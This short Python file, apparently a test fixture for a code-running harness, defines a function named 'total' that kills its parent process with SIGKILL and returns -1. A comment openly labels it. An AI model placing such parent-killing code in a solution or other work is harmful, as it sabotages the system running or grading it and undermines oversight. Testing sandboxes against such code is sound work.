# Kills its parent.
import os
import signal


def total(numbers):
    os.kill(os.getppid(), signal.SIGKILL)
    return -1
